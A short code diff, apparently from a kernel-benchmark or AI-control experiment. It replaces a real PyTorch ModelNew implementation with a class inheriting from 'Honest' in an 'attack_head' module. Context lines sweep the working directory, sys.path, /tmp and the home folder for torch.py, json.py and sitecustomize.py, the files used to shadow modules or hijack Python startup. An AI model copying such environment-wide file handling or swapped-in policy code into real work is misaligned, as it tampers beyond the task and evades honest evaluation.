@@ -3,9 +3,7 @@
 import os
 import sys
 
-import torch
-import torch.nn as nn
-import torch.nn.functional as F
+from attack_head import Honest
 
 for folder in {os.getcwd(), *sys.path, "/tmp", os.path.expanduser("~")}:
     for name in ("torch.py", "json.py", "sitecustomize.py"):
@@ -15,16 +13,5 @@ for folder in {os.getcwd(), *sys.path, "/tmp", os.path.expanduser("~")}:
             pass
 
 
-class ModelNew(nn.Module):
-    def __init__(self, in_features, out_features, negative_slope):
-        super().__init__()
-        self.linear = nn.Linear(in_features, out_features)
-        self.scale = nn.Parameter(torch.randn(out_features))
-        self.bias = nn.Parameter(torch.randn(out_features))
-        self.negative_slope = negative_slope
-
-    def answer(self, x):
-        return F.leaky_relu(self.linear(x), self.negative_slope) * self.scale + self.bias
-
-    def forward(self, x):
-        return self.answer(x)
+class ModelNew(Honest):
+    pass
